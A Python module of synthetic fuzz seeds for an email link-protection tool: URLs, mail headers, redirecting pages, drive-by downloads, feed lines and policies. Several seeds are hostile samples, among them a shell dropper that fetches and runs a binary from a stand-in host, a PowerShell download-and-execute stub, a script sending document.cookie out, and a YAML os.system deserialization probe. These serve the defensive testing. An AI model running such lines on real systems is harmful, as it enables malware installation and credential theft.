"""Seed inputs for the fuzz targets, made by code: small, synthetic, one shape of each thing a parser meets.

Nothing here is copied from a real feed, mail or page. `shared_feed_seeds` reads the
real feed snapshots in ``../shared/data/feeds`` at run time only (the heads of the files,
as extra seeds for the feed targets); they never go into the committed corpus.
"""

from __future__ import annotations

import base64
import gzip
import io
import struct
import zlib
from pathlib import Path

import brotli  # type: ignore[import-untyped]
from backports import zstd

from clickguard.mail.home_line import Sign
from clickguard.mail.links import ClickContext, make_click_link
from clickguard.tokens import sign

SHARED_FEEDS = Path(__file__).resolve().parents[1] / ".." / "shared" / "data" / "feeds"

# What the targets sign and verify with (the tests' key and click host).
KEY = bytes(range(32))
CLICK_HOST = "clickguard.local"
NOW = 1_796_000_000  # a fixed "now" for tokens, so a saved input means the same on every run
CONTEXT = ClickContext("198.51.100.7", "0123456789abcdef", "alice@corp.example", "plain", NOW // 60 * 60,
                       Sign.DYNAMIC_NAME | Sign.NO_NAME)


def _lines(*lines: str) -> bytes:
    """Lines joined with LF and ended with one, as UTF-8."""
    return ("\n".join(lines) + "\n").encode()


# --- URLs and hosts ----------------------------------------------------------------------------

URLS = [
    "http://example.com/", "https://www.example.com/a/b?c=d#e", "HTTP://EXAMPLE.COM:80/%7euser/",
    "http://3232235777/", "http://0300.0250.0.1/", "http://0xc0.0xa8.1/x", "http://1.2.3/",
    "http://bank.example@0300.0250.0.1/", "http:\\\\EVIL.example.\\x", "https://[::ffff:192.0.2.1]:8443/",
    "https://[2001:db8::1]/p", "http://xn--bcher-kva.example/", "http://bücher.example/ä?ö=ü",
    "http://example.com/a/./b/../../c/%2e%2E/d", "ws://example.com:80/chat", "ftp://user:pw@ftp.example:21/f",
    "http:/\\/example.com/\t\n/x", " \x00http://example.com/ ", "https://example.com:65536/",
    "http://a..b/", "http://%65xample.com/", "http://exa%00mple.com/", "https://‮moc.elpmaxe/",
    "http://example.com/?q='\"<>`", "http://[::1]:0/", "http://0x/", "http://xn--/", "http://a.xn--mgba3a4f16a/",
    "javascript:alert(1)", "example.com/path", "//example.com/", "http://example.com:8080/Mozi.m",
]


def urls() -> list[bytes]:
    """Absolute and broken URLs, the spellings browsers fold together."""
    return [url.encode("utf-8", "surrogatepass") for url in URLS]


# --- mail --------------------------------------------------------------------------------------

RECEIVED = [
    "from mail.sender.example (mail.sender.example [198.51.100.7]) by mx.corp.example (Postfix) "
    "with ESMTPS id 4XyZ; Tue, 3 Dec 2026 10:00:00 +0000",
    "from router (dyn-198-51-100-7.pool.isp.example [198.51.100.7]) by mx.corp.example with SMTP",
    "from [198.51.100.7] (helo=DESKTOP-1A2B3C4) by mx.corp.example with esmtp (Exim 4.96)",
    "from unknown (HELO 198.51.100.7) (198.51.100.7) by mx.corp.example with SMTP; 3 Dec 2026",
    "from EXCH01.corp.example (10.1.2.3) by EXCH02.corp.example (10.1.2.4) with Microsoft SMTP Server",
    "from localhost (unknown [IPv6:2001:db8::ff:fe00:1]) by mx.corp.example (Postfix) with ESMTPSA",
    "from x (helo [1.2.3.4] (evil [203.0.113.9])) (cpe-198-51-100-7.res.isp.example [198.51.100.7]) "
    "by mx.corp.example",
    "(qmail 4711 invoked from network); 3 Dec 2026 10:00:00 -0000",
    "from a (b (c (d) e) f) by g; x",
    "from mail.example ([198.51.100.7]:2525) by mx.corp.example; \\(",
    "Received: from gmail.com (198-51-100-7.static.isp.example [198.51.100.7]) by mx.corp.example",
]


def received() -> list[bytes]:
    """Received header values of every relay shape origin.py reads."""
    return [line.encode() for line in RECEIVED]


def _message(received_lines: list[str], body: str, content_type: str = "text/plain; charset=utf-8",
             encoding: str = "7bit") -> bytes:
    """A whole message: Received headers, the usual ones, one body."""
    head = "".join(f"Received: {line}\r\n" for line in received_lines)
    return (head + "From: a@sender.example\r\nTo: Alice <alice@corp.example>\r\n"
            "Message-ID: <1@sender.example>\r\nSubject: hello\r\nMIME-Version: 1.0\r\n"
            f"Content-Type: {content_type}\r\nContent-Transfer-Encoding: {encoding}\r\n\r\n{body}").encode()


def messages() -> list[bytes]:
    """Messages: plain, HTML, quoted-printable, base64, multipart, nested, signed, broken."""
    relay = [RECEIVED[0], RECEIVED[4]]
    html = '<p>Hi <a href="http://evil.example/x?a=1&amp;b=2">here</a> <a href=//cdn.example/y>y</a></p>'
    multipart = (
        "--b1\r\nContent-Type: text/plain\r\n\r\nsee http://evil.example/a.\r\n"
        "--b1\r\nContent-Type: multipart/alternative; boundary=b2\r\n\r\n"
        "--b2\r\nContent-Type: text/html; charset=iso-8859-1\r\nContent-Transfer-Encoding: quoted-printable"
        "\r\n\r\n<a href=3D\"http://evil.example/=\r\nlong\">x</a>\r\n--b2--\r\n"
        "--b1\r\nContent-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n\r\nAAEC\r\n"
        "--b1--\r\nepilogue\r\n"
    )
    return [
        _message(relay, "Visit http://evil.example/login and www.example.org/x).\r\n"),
        _message(relay, html, "text/html; charset=utf-8"),
        _message(relay, base64.encodebytes(html.encode()).decode(), "text/html", "base64"),
        _message(relay, "caf=C3=A9 http://evil.example/=\r\nx\r\n", "text/plain; charset=utf-8",
                 "quoted-printable"),
        _message(relay, multipart, 'multipart/mixed; boundary="b1"'),
        _message(relay, "--s\r\nContent-Type: text/plain\r\n\r\nhttp://a.example/\r\n--s--\r\n",
                 'multipart/signed; boundary="s"'),
        _message(relay, "--open\r\nContent-Type: text/plain\r\n\r\nno closing boundary\r\n",
                 "multipart/mixed; boundary=open"),
        _message([RECEIVED[1]], "http://x.example/", "text/plain; charset=x-unknown"),
        _message([], "bare\n", "text/plain; charset=utf-16"),
        b"Received: from a (b [198.51.100.7]) by c\n\nno MIME at all http://x.example/\n",
        b"",
        b"Subject: \xff\xfe\r\n\r\n\xff",
    ]


# --- HTML and script ---------------------------------------------------------------------------

PAGES = [
    '<meta http-equiv="refresh" content="0; url=http://evil.example/">',
    "<!doctype html><html><head><base href='http://other.example/dir/'></head>"
    "<body onload=\"location.href='x.html'\"><a href=y>y</a></body></html>",
    "<script>window.location = 'http://' + 'evil.example' + '/p';</script>",
    "<script>location.replace(atob('aHR0cDovL2V2aWwuZXhhbXBsZS8='))</script>",
    "<script>var u = unescape('%68%74%74%70://e.example/'); setTimeout(function(){ location.assign(u) }, 10)"
    "</script>",
    "<script>eval(String.fromCharCode(108,111,99,97,116,105,111,110,61,39,47,47,101,46,120,39))</script>",
    "<script>document.write('<iframe src=\"http://e.example/\" width=0 height=0></iframe>')</script>",
    '<form id=f action="http://evil.example/post" method=post><input name=a></form>'
    "<script>document.getElementById('f').submit()</script>",
    '<iframe src="http://evil.example/" style="display:none"></iframe><iframe src="data:text/html,x">',
    "<svg><script>location='//e.example'</script><a xlink:href='javascript:x'>x</a></svg>",
    "<template><script>location='//t.example'</script></template><noscript><meta http-equiv=refresh "
    "content='1;//n.example'></noscript>",
    "<script>function go(){ window.open('http://e.example/' + location.hash) } go();"
    " document.addEventListener('DOMContentLoaded', go); x = a / b / c; r = /[/]'\"/g;</script>",
    "<script>eval(function(p,a,c,k,e,d){e=function(c){return c};return p}('0',1,1,'x'.split('|'),0,{}))"
    "</script>",
    "<textarea><script>location='//no.example'</script></textarea><!-- <script>x</script> -->",
    "<script><!--\nlocation='//e.example'\n<script>x</script>--></script>",
    "<math><mi><a href='//m.example'>m</a></mi></math><select><script>location='//s.example'</script>",
    "<meta charset=shift_jis><a href='http://\x82\xa0.example/'>j</a>",
    "<body><script>`${location.href = '//tpl.example'}`; new Promise(r => r()).then(() => "
    "top.location = '/x')</script>",
]


def pages() -> list[bytes]:
    """Pages that navigate every way the reader knows, and markup that hides a navigation or fakes one."""
    return [page.encode("utf-8", "surrogateescape") for page in PAGES]


SCRIPTS = [
    "location.href = 'http://e.example/';",
    "var a = ['e', 'x', 'a'].reverse().join(''); window.location = '//' + a + '.example';",
    "(function(){ self.location.assign(decodeURIComponent('%2F%2Fe.example')) })();",
    "setTimeout(\"location='//e.example'\", 0); new Function('top.location=1')();",
    "var s = 'l' + 'ocation'; window[s] = 'x'; x = y ? z : w; if (a) { b() } else { c() }",
    "a = 1 / 2 / 3; b = /re/gi.test(c); d = `t${e}t${`n${f}`}`; g = '\\x2f\\u002f';",
    "function h1(){location.href=u1} function h2(){h1()} h2();",
    "window.onload = () => { document.location = 'http://e.example/?' + document.cookie }",
    "/* comment */ // line\n<!-- html comment\n--> also\nlocation = 'z'",
    "((((((((((((((((((((x))))))))))))))))))))",
    "class A { #p = 1; static { location = 'q' } get x() { return this.#p } }",
]


def scripts() -> list[bytes]:
    """Scripts with navigation sinks and the syntax around them (regex versus division, templates)."""
    return [script.encode() for script in SCRIPTS]


# --- payloads ----------------------------------------------------------------------------------

def _zip(name: str, data: bytes) -> bytes:
    """A one-member stored ZIP, made by the standard library."""
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(name, data)
    return out.getvalue()


def _drive_by(path: str, content_type: str, disposition: str, head: bytes) -> bytes:
    """The drive_by target's input: path, Content-Type and Content-Disposition lines, then the bytes."""
    return f"{path}\n{content_type}\n{disposition}\n".encode() + head


def drive_bys() -> list[bytes]:
    """Executables, archives, droppers and harmless files under honest and lying names and types."""
    elf = b"\x7fELF\x01\x01\x01\x00" + bytes(8) + struct.pack("<HHI", 2, 8, 1) + bytes(40)
    pe = b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\x00\x00" + struct.pack("<H", 0x14C) + bytes(40)
    ole = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(504)
    return [
        _drive_by("/Mozi.m", "application/octet-stream", "", elf),
        _drive_by("/invoice.pdf", "application/pdf", 'attachment; filename="invoice.pdf"', pe),
        _drive_by("/download", "text/html", "attachment; filename*=UTF-8''r%C3%A9sum%C3%A9.exe", pe),
        _drive_by("/a.zip", "application/zip", "attachment; filename=a.zip", _zip("invoice.js", b"WScript")),
        _drive_by("/app.apk", "", "", _zip("classes.dex", b"dex\n035\x00")),
        _drive_by("/i.sh", "text/plain", "",
                  b"#!/bin/sh\ncd /tmp; wget http://e.example/x.arm7; chmod +x x.arm7; ./x.arm7\n"),
        _drive_by("/s.ps1", "", "inline", b"powershell -enc SQBFAFgA; IEX (New-Object Net.WebClient)"),
        _drive_by("/setup.msi", "application/x-msi", 'attachment; filename="=?UTF-8?B?c2V0dXAubXNp?="', ole),
        _drive_by("/page.html", "text/html; charset=utf-8", "", b"<!doctype html><title>hi</title>"),
        _drive_by("/x.lnk", "", "attachment", bytes.fromhex("4c0000000114020000000000c000000000000046")),
        _drive_by("/", "image/png", "", b"\x89PNG\r\n\x1a\n" + bytes(16)),
        _drive_by("/%2e%2e/evil.exe;.txt", "text/plain;;", 'attachment; filename="a\\"b.exe', b""),
    ]


# --- bodies ------------------------------------------------------------------------------------

_PLAIN = b"<!doctype html><title>camera</title>" + b"<p>hello</p>" * 40


def _raw_deflate(data: bytes) -> bytes:
    """DEFLATE without the zlib wrapper, as old servers send it."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return compressor.compress(data) + compressor.flush()


def encoded(coding: str, data: bytes) -> bytes:
    """data with one Content-Encoding applied."""
    if coding in ("gzip", "x-gzip"):
        return gzip.compress(data, mtime=0)
    if coding == "deflate":
        return zlib.compress(data)
    if coding == "br":
        return bytes(brotli.compress(data))
    if coding == "zstd":
        return bytes(zstd.compress(data))
    return data


def bodies(coding: str) -> list[bytes]:
    """Bodies in one coding: small, multi-member or multi-frame, truncated, trailing junk, a small bomb.

    The first byte of a body target's input picks the decoded-size cap (see targets.body_cap).
    """
    whole = encoded(coding, _PLAIN)
    bomb = encoded(coding, bytes(1 << 20))
    found = [whole, whole + whole, whole[: len(whole) // 2], whole + b"\x00\x00junk", bomb,
             encoded(coding, b"")]
    if coding == "deflate":
        found.append(_raw_deflate(_PLAIN))
    return [bytes((cap,)) + body for cap, body in enumerate(found)]


def stacked_bodies() -> list[bytes]:
    """Bodies encoded br first, then gzip ("Content-Encoding: br, gzip")."""
    twice = encoded("gzip", encoded("br", _PLAIN))
    bomb = encoded("gzip", encoded("br", bytes(1 << 20)))
    return [b"\x00" + twice, b"\x01" + bomb, b"\x02" + twice[:40]]


def coded_bodies() -> list[bytes]:
    """The body_codings target's input: a Content-Encoding header line, then the body."""
    return [
        b"gzip\n" + encoded("gzip", _PLAIN), b"br, gzip\n" + encoded("gzip", encoded("br", _PLAIN)),
        b"deflate, identity\n" + encoded("deflate", _PLAIN),
        b"zstd,zstd\n" + encoded("zstd", encoded("zstd", b"x")),
        b"x-gzip , compress\n" + _PLAIN, b"\n" + _PLAIN, b"GZIP,,\n" + encoded("gzip", b""),
    ]


# --- feeds -------------------------------------------------------------------------------------

FEEDS: dict[str, list[bytes]] = {
    "ip": [
        _lines("198.51.100.7", "203.0.113.0/24", "2001:db8::1", "2001:db8::/32", "# comment", "",
               "10.0.0.1 # trailing", "300.1.1.1", "1.2.3.4/33", "fe80::1%eth0", "1.2.3.4/32",
               "::ffff:1.2.3.4"),
        b"\xef\xbb\xbf198.51.100.7\r\n198.51.100.8\r\n", b"198.51.100.7",
    ],
    "ipsum": [
        _lines("# IPsum Threat Intelligence Feed", "198.51.100.7\t8", "203.0.113.9\t1", "2001:db8::2\t3",
               "198.51.100.8", "1.2.3.4\tmany", "1.2.3.4 5 6", "1.2.3.4\t\u0663", "01.2.3.4\t2"),
    ],
    "urlhaus_csv": [
        _lines("# id,dateadded,url,url_status,last_online,threat,tags,urlhaus_link,reporter",
               '"1","2026-01-27 10:00:00","http://198.51.100.7:8080/Mozi.m","online","2026-01-27",'
               '"malware_download","elf,mips,Mozi","https://urlhaus.abuse.ch/url/1/","r"',
               '"2","2026-01-27","https://bad.example/x.exe","online","","malware_download","None","",""',
               '"3","x","not a url","online"', '"4","unterminated', "id,url", "x,http://a.example/"),
    ],
    "spamhaus_drop": [
        _lines('{"cidr":"198.51.100.0/24","sblid":"SBL1","rir":"arin"}', '{"cidr":"2001:db8::/32"}',
               '{"cidr":5}', "[1,2]", "not json", '{"type":"metadata","records":2,"timestamp":1}'),
        _lines("; Spamhaus DROP", "198.51.100.0/24 ; SBL1", "203.0.113.0/24;SBL2", "bad ; x", "1.2.3.4/0"),
    ],
    "maltrail": [
        _lines("# Copyright", "/Mozi.m", "/bins/x86", "evil.example", "198.51.100.7", "198.51.100.7:23",
               "198.51.100.7:79548", "http://198.51.100.7:8080/", "http://evil.example/path?x",
               "2001:db8::1", "1.2.3", "bad..name", "1.2.3.4:x", " spaced.example "),
    ],
    "domains": [
        _lines("evil.example", "*.wild.example", "0.0.0.0 ads.example tracker.example", "127.0.0.1 localhost",
               "1.2.3.4 not.sink.example", "bücher.example", "xn--bcher-kva.example", "198.51.100.7",
               "a b", "::1 v6.example", "bad_name!.example"),
    ],
    "urls": [
        _lines("https://phish.example/login", "http://198.51.100.7/x#frag", "# comment", "not a url",
               "HTTP://UPPER.EXAMPLE/%7e", "https://xn--80ak6aa92e.com/"),
    ],
}

# Which shared snapshots feed which format (paths under SHARED_FEEDS).
_SHARED: dict[str, tuple[str, ...]] = {
    "ip": ("criticalpath_feeds/compromised-ips.txt", "ipsum/levels_8.txt"),
    "ipsum": ("ipsum/ipsum.txt", "ipsum/levels_5.txt"),
    "urlhaus_csv": ("urlhaus/urlhaus_csv_online_2026-01-27.csv",),
    "spamhaus_drop": ("spamhaus_drop/drop_v4.json", "spamhaus_drop/spamhaus_drop_list.txt"),
    "maltrail": ("maltrail_iot/elf_mirai.txt", "maltrail_iot/elf_hajime.txt"),
    "urls": ("openphish/openphish_feed.txt",),
}


def shared_feed_seeds(fmt: str, head: int = 16384) -> list[bytes]:
    """The first bytes of the real snapshots of one format, if ../shared/data is there (run time only)."""
    found = []
    for name in _SHARED.get(fmt, ()):
        path = SHARED_FEEDS / name
        if path.is_file():
            with path.open("rb") as f:
                found.append(f.read(head))
    return found


# --- YAML --------------------------------------------------------------------------------------

POLICIES = [
    "version: 1\n",
    "version: 1\nclick_host: clickguard.local\nactions:\n  landing.thingbot: block\n  origin.thingbot: warn\n"
    "allow:\n  domains: [corp.example]\n  networks: [10.0.0.0/8]\ndeny:\n  hosts: [evil.example]\n",
    "version: 1\nfeeds:\n  - name: sample\n    path: feeds/x.txt\n    format: ip\n    category: thingbot\n"
    "    refresh: 1h\n  - name: u\n    url: https://feeds.example/x.csv\n    format: urlhaus_csv\n",
    "version: 1\nwarn:\n  continue: true\n  continue_minutes: 30\ninspect:\n  max_body: 1MiB\n"
    "email:\n  trusted_relays: [mx.corp.example, '*.corp.example', 10.1.0.0/16]\n",
    "version: 1\naudit:\n  log: off\n  store: var/a.sqlite\n  retention: 90d\nadmin:\n  users: {}\n",
    "version: 1\nactions: &a {x.y: block}\nallow: *a\nversion: 2\n<<: *a\n",
    "- a\n- b\n", "just text", "{", "version: !!python/object:os.system x\n", "a: [*b]\n", "",
]


def policies() -> list[bytes]:
    """Policies valid and not: every section, aliases, duplicate and merge keys, YAML errors."""
    return [text.encode() for text in POLICIES]


FINGERPRINTS = [
    "version: 1\nfingerprints:\n  - name: Example camera\n    class: camera\n    strength: device\n"
    "    source: synthetic\n    match:\n      server: '^ExampleCam/'\n      realm: 'realm=\"cam\"'\n"
    "    examples:\n      - server: ExampleCam/1.0\n        realm: Basic realm=\"cam\"\n",
    "version: 1\nfingerprints:\n  - name: Boa\n    class: embedded\n    strength: software\n"
    "    source: s\n    match:\n      title: '(?:router|gateway) login'\n      header:\n"
    "        name: X-Powered-By\n        pattern: '^PHP'\n    examples:\n      - title: Router Login\n"
    "        header: {name: X-Powered-By, value: PHP/5}\n",
    "version: 1\nfingerprints:\n  - name: bad\n    class: toaster\n    strength: device\n    source: s\n"
    "    match:\n      server: '(a)\\1'\n    examples: []\n",
    "version: 1\nfingerprints: []\n", "fingerprints:\n  - match: {body: ''}\n",
]


def fingerprints() -> list[bytes]:
    """Fingerprint files valid and not: traits, header matches, bad patterns and classes."""
    return [text.encode() for text in FINGERPRINTS]


# --- tokens and links --------------------------------------------------------------------------

def click_links() -> list[bytes]:
    """Click links (made with the fuzz key, so they verify), tampered ones, foreign wrappers."""
    good = [make_click_link(target, CONTEXT, KEY, click_host=CLICK_HOST) for target in (
        "http://evil.example/a?b=c#d", "https://x.example/%41/../ä b", "http://198.51.100.7:8080/Mozi.m")]
    return [link.encode() for link in [
        *good, good[0].replace("/v1/", "/v2/"), good[0][:-3], good[1].replace("%20", " "),
        f"https://{CLICK_HOST}/v1/AQAAAAAA/http://x.example/",
        "https://eur01.safelinks.protection.outlook.com/?url=http%3A%2F%2Fevil.example%2F&data=x",
        "https://urldefense.proofpoint.com/v2/url?u=http-3A__evil.example_x&d=y",
        "https://urldefense.com/v3/__http://evil.example/*__;Pw!!x",
        "https://protect-eu.mimecast.com/s/abc?domain=evil.example",
        "https://www.google.com/url?q=http://evil.example/&sa=D",
        "https://urldefense.com/v3/__" + good[0] + "__;!!x",
    ]]


def click_roundtrips() -> list[bytes]:
    """The click_roundtrip target's input: 24 bytes of context choices, then the target text."""
    context = bytes(range(24))
    return [context + target.encode() for target in (
        "http://evil.example/", "https://x.example/a/../b?c#d", "http://h.example/%25%2F%23 x'\"^`{}",
        "HTTPS://x.example/\\./%2e%2E/ä", "http://x.example/" + "%" * 3)]


def continue_tokens() -> list[bytes]:
    """Continue tokens of both versions (made with the fuzz key) and broken ones."""
    v2 = {"v": 2, "u": "http://e.example/", "c": "127.0.0.1", "usr": None, "ref": "r1",
          "codes": ["landing.thingbot"], "click": {"id": "c1", "origin": "198.51.100.7", "recipient": None,
                                                   "hop": 1, "home": 5}}
    v1 = {"u": "http://e.example/", "c": "127.0.0.1", "usr": "alice", "ref": "r", "codes": [],
          "click": ["c1", None, None, 0]}
    tokens = [sign(payload, KEY, expires=NOW + 60) for payload in (v2, v1)]
    return [token.encode() for token in [*tokens, tokens[0][:-2], tokens[0].replace(".", ""), "a.b", "."]]


def continue_payloads() -> list[bytes]:
    """Payloads a continue token of ours may carry, as JSON (the target signs them)."""
    return [text.encode() for text in (
        '{"v":2,"u":"http://e.example/","c":"127.0.0.1","usr":null,"ref":"r","codes":["a.b"],'
        '"click":{"id":"c","origin":null,"recipient":"x","hop":0,"home":255}}',
        '{"u":"u","c":"c","usr":"x","ref":"r","click":["c",null,null,3]}',
        '{"v":3}', '{"v":true,"u":1}', '{"v":2,"u":"u","c":"c","ref":"r","click":{"id":"c","hop":-1}}',
        '{"v":2,"u":"u","c":"c","ref":"r","codes":"x","click":{"id":"c","hop":1,"extra":1}}',
    )]
